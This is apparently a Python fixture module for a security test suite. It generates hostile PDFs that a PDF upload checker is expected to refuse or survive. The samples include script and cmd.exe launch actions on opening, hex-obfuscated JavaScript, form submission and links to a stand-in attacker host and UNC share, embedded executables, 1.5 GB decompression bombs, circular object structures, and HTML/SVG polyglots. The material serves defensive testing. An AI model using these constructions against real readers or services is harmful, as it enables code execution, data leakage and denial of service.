"""PDFs that do something when they are opened or pressed, never end, or are something else besides."""

import io
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name

from tests.security.attacks_files.packing import package, zeros

ELSEWHERE = "https://attacker.example/collect"
SHARE = "\\\\attacker.example\\share\\a.pdf"
A4 = (595, 842)


def pdf(change: Callable[[pikepdf.Pdf], None] = lambda document: None, **saving: object) -> bytes:
    """Return a PDF of one page, changed before it is saved."""
    document = pikepdf.new()
    document.add_blank_page(page_size=A4)
    change(document)
    target = io.BytesIO()
    document.save(target, **saving)
    return target.getvalue()


def on_opening(**action: object) -> bytes:
    """Return a PDF that does this when it is opened."""

    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = document.make_indirect(Dictionary(**action))

    return pdf(change)


def on_page(**action: object) -> bytes:
    """Return a PDF that does this when its page comes into view."""

    def change(document: pikepdf.Pdf) -> None:
        document.pages[0].AA = Dictionary(O=Dictionary(**action))

    return pdf(change)


def on_press(**action: object) -> bytes:
    """Return a PDF with a link over its page that does this."""
    return annotated(Subtype=Name.Link, A=Dictionary(**action))


def annotated(**told: object) -> bytes:
    """Return a PDF with something on its page."""

    def change(document: pikepdf.Pdf) -> None:
        one = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 595, 842]), **told)
        document.pages[0].Annots = Array([document.make_indirect(one)])

    return pdf(change)


def afterwards() -> bytes:
    """Return a PDF that goes to its own page when it is opened, and afterwards to an address."""
    address = Dictionary(S=Name.URI, URI=ELSEWHERE)
    return on_opening(
        S=Name.GoTo, D=Array([0, Name.Fit]), Next=Array([Dictionary(S=Name.GoTo, Next=address)])
    )


def for_ever() -> bytes:
    """Return a PDF whose opening action follows upon itself."""

    def change(document: pikepdf.Pdf) -> None:
        action = document.make_indirect(Dictionary(S=Name.GoTo, D=Array([0, Name.Fit])))
        action.Next = action
        document.Root.OpenAction = action

    return pdf(change)


def dynamic_form(document: pikepdf.Pdf) -> None:
    """Describe the form by XFA, which holds scripts of its own."""
    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=document.make_stream(b"<xdp:xdp/>"))


def unreferenced_file(document: pikepdf.Pdf) -> None:
    """Keep a program in the file to which nothing points."""
    document.make_stream(b"MZ", Type=Name.EmbeddedFile)
    document.Root.Extra = document.make_stream(b"MZ", Type=Name.EmbeddedFile)


def content_elsewhere(document: pikepdf.Pdf) -> None:
    """Let the page's content be read from a share."""
    outside = document.make_stream(b"")
    outside.stream_dict.F = pikepdf.String(SHARE)
    document.pages[0].Contents = outside


def sized(box: list[object]) -> bytes:
    """Return a PDF whose page has this size."""

    def change(document: pikepdf.Pdf) -> None:
        document.pages[0].MediaBox = Array(box)

    return pdf(change)


def many_pages(count: int) -> bytes:
    """Return a PDF of so many pages, all the same object's copies."""

    def change(document: pikepdf.Pdf) -> None:
        for _ in range(count - 1):
            document.add_blank_page(page_size=A4)

    return pdf(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def written(*objects: bytes, root: int = 1) -> bytes:
    """Return a PDF of these objects, numbered from 1, as they are written here."""
    data, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(data))
        data += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    table = len(data)
    data += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    data += b"".join(b"%010d 00000 n \n" % place for place in places)
    return data + b"trailer\n<</Size %d/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        root,
        table,
    )


CATALOG, PAGES = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]%b>>"


def stream(data: bytes, head: bytes = b"/Filter/FlateDecode") -> bytes:
    """Return a stream as it is written."""
    return b"<<%b/Length %d>>stream\n%b\nendstream" % (head, len(data), data)


def disguised_script() -> bytes:
    """Return a PDF that runs a script whose words are written in hexadecimal."""
    catalog = b"<</Type/Catalog/Pages 2 0 R/#4fpenAction<</#53/J#61vaScr#69pt/#4a#53(app.alert\\(1\\))>>>>"
    return written(catalog, PAGES, PAGE % b"")


def page_tree_in_a_circle() -> bytes:
    """Return a PDF whose pages are their own children."""
    return written(CATALOG, b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 9/Parent 2 0 R>>")


def deep_page_tree(depth: int) -> bytes:
    """Return a PDF whose only page lies below so many others."""
    inner = [
        b"<</Type/Pages/Kids[%d 0 R]/Count 1/Parent %d 0 R>>" % (number + 1, number - 1)
        for number in range(3, depth + 3)
    ]
    page = b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 9 9]>>" % (depth + 2)
    return written(CATALOG, PAGES, *inner, page)


def deep_arrays(depth: int) -> bytes:
    """Return a PDF with a list in a list in a list."""
    return written(CATALOG, PAGES, PAGE % b"", b"[" * depth + b"]" * depth)


def length_in_a_circle() -> bytes:
    """Return a PDF with a stream whose length is told by itself."""
    return written(CATALOG, PAGES, PAGE % b"/Contents 4 0 R", b"<</Length 4 0 R>>stream\nq Q\nendstream")


def table_in_a_circle() -> bytes:
    """Return a PDF whose table of objects goes on where it begins."""
    whole = written(CATALOG, PAGES, PAGE % b"")
    table = whole.rindex(b"xref\n0")
    return whole.replace(b"/Size", b"/Prev %d/Size" % table)


def object_stream(megabytes: int) -> bytes:
    """Return a PDF whose objects lie in a stream that unpacks to so many megabytes."""
    packed = stream(zeros(megabytes), b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode")
    table = b"<</Type/XRef/Size 5/W[1 2 1]/Index[0 5]/Root 1 0 R%b"
    data, places = b"%PDF-1.7\n", []
    for number, body in enumerate((CATALOG, PAGES, packed), 1):
        places.append(len(data))
        data += b"%d 0 obj\n%b\nendobj\n" % (number + (number == 3), body)
    rows = [(0, 0, 0), (1, places[0], 0), (1, places[1], 0), (2, 4, 0), (1, places[2], 0)]
    body = b"".join(bytes([kind, *place.to_bytes(2, "big"), index]) for kind, place, index in rows)
    return data + b"5 0 obj\n%b\nendobj\nstartxref\n%d\n%%%%EOF\n" % (
        (table % b"") + b"/Length %d>>stream\n%b\nendstream" % (len(body), body),
        len(data),
    )


def huge_content(megabytes: int) -> bytes:
    """Return a PDF whose page is so many megabytes of content, packed twice."""
    return written(CATALOG, PAGES, PAGE % b"/Contents 4 0 R", stream(zeros(megabytes)))


def huge_picture(side: int) -> bytes:
    """Return a PDF with a picture of so many pixels on a side."""
    head = b"/Type/XObject/Subtype/Image/Width %d/Height %d/BitsPerComponent 8" % (side, side)
    picture = stream(zeros(1), head + b"/ColorSpace/DeviceRGB/Filter/FlateDecode")
    page = PAGE % b"/Resources<</XObject<</I 5 0 R>>>>/Contents 4 0 R"
    return written(CATALOG, PAGES, page, stream(b"q 595 0 0 842 0 0 cm /I Do Q", b""), picture)


def busy_page(times: int) -> bytes:
    """Return a PDF of few bytes whose page draws itself again and again: forms in forms, each ten times."""
    forms = []
    for number in range(5, 5 + times):
        head = b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</F %d 0 R>>>>" % (
            number + 1
        )
        forms.append(stream(b"/F Do " * 10, head))
    last = stream(b"0 0 595 842 re f " * 20, b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]")
    page = PAGE % b"/Resources<</XObject<</F 5 0 R>>>>/Contents 4 0 R"
    return written(CATALOG, PAGES, page, stream(b"/F Do", b""), *forms, last)


MARKUP = b"<html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
# The shape of the antivirus test file, not its bytes: machines that have a scanner would take this repository away.
SCANNER_TEST = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"INVENTED-TEST-FILE!$H+H*"

# file -> the codes of which one is the reason
REFUSED: dict[str, tuple[Callable[[], bytes], set[str]]] = {
    "script in hexadecimal": (disguised_script, {"script"}),
    "script on opening": (lambda: on_opening(S=Name.JavaScript, JS="app.alert(1)"), {"script"}),
    "script on pressing": (lambda: on_press(S=Name.JavaScript, JS="app.alert(1)"), {"script"}),
    "script of a rendition": (lambda: on_press(S=Name.Rendition, OP=0), {"script"}),
    "program on opening": (lambda: on_opening(S=Name.Launch, F="cmd.exe"), {"launch"}),
    "program on showing a page": (lambda: on_page(S=Name.Launch, F="cmd.exe"), {"launch"}),
    "address on opening": (lambda: on_opening(S=Name.URI, URI=ELSEWHERE), {"outside"}),
    "address on showing a page": (lambda: on_page(S=Name.URI, URI=ELSEWHERE), {"outside"}),
    "address after another action": (afterwards, {"outside"}),
    "actions in a circle": (for_ever, {"outside"}),
    "file on a share on opening": (lambda: on_opening(S=Name.GoToR, F=SHARE), {"outside"}),
    "file on a share on pressing": (lambda: on_press(S=Name.GoToR, F=SHARE), {"outside"}),
    "content on a share": (lambda: pdf(content_elsewhere), {"outside"}),
    "form that is sent away": (lambda: on_press(S=Name.SubmitForm, F=ELSEWHERE), {"outside"}),
    "form of XFA": (lambda: pdf(dynamic_form), {"script"}),
    "file in the file on pressing": (lambda: on_press(S=Name.GoToE), {"embedded"}),
    "file that nothing points to": (lambda: pdf(unreferenced_file), {"embedded"}),
    "file pinned to the page": (
        lambda: annotated(Subtype=Name.FileAttachment, FS=Dictionary(F="a")),
        {"embedded"},
    ),
    "rich media": (lambda: annotated(Subtype=Name.RichMedia), {"media"}),
    "film": (lambda: annotated(Subtype=Name.Movie), {"media"}),
    "body of three dimensions": (lambda: annotated(Subtype=Name("/3D")), {"media"}),
    "password": (lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="u")), {"encrypted"}),
    "markup behind the magic bytes": (lambda: b"%PDF-1.7\n" + MARKUP, {"unreadable"}),
    "drawing behind the magic bytes": (lambda: b"%PDF-1.7\n" + SVG, {"unreadable"}),
    "scanner's test behind the magic bytes": (lambda: b"%PDF-1.7\n" + SCANNER_TEST, {"unreadable"}),
    "nothing behind the magic bytes": (lambda: b"%PDF-1.7\n", {"unreadable"}),
    "half of a PDF": (lambda: many_pages(50)[:1500], {"unreadable"}),
    "page tree in a circle": (page_tree_in_a_circle, {"unreadable", "empty", "page", "exhausted"}),
    "objects that unpack to 1.5 GB": (lambda: object_stream(1500), {"unreadable", "exhausted", "empty"}),
}
# These pass, or are refused; never do they harm.
EITHER: dict[str, Callable[[], bytes]] = {
    "page tree of 3,000 floors": lambda: deep_page_tree(3_000),
    "lists in lists": lambda: deep_arrays(100_000),
    "length in a circle": length_in_a_circle,
    "table in a circle": table_in_a_circle,
    "page of a million metres": lambda: sized([0, 0, 10**9, 10**9]),
    "page of no size": lambda: sized([0, 0, 0, 0]),
    "page as thin as a thread": lambda: sized([0, 0, 1, 10**6]),
    "page that begins far away": lambda: sized([10**12, 10**12, 10**12 + 595, 10**12 + 842]),
    "page upside down": lambda: sized([595, 842, 0, 0]),
    "page of words": lambda: sized([Name.A, "b", 1, 2]),
    "content that unpacks to 1.5 GB": lambda: huge_content(1500),
    "picture of 3.6 billion pixels": lambda: huge_picture(60_000),
}
HARMLESS: dict[str, Callable[[], bytes]] = {
    "link to an address": lambda: on_press(S=Name.URI, URI="https://example.org/"),
    "page of its own on opening": lambda: on_opening(S=Name.GoTo, D=Array([0, Name.Fit])),
    "page with markup behind its end": lambda: pdf() + MARKUP,
    "page with a zip behind its end": lambda: pdf() + package({"run.exe": b"MZ"}),
    "2,000 pages": lambda: many_pages(2_000),
}
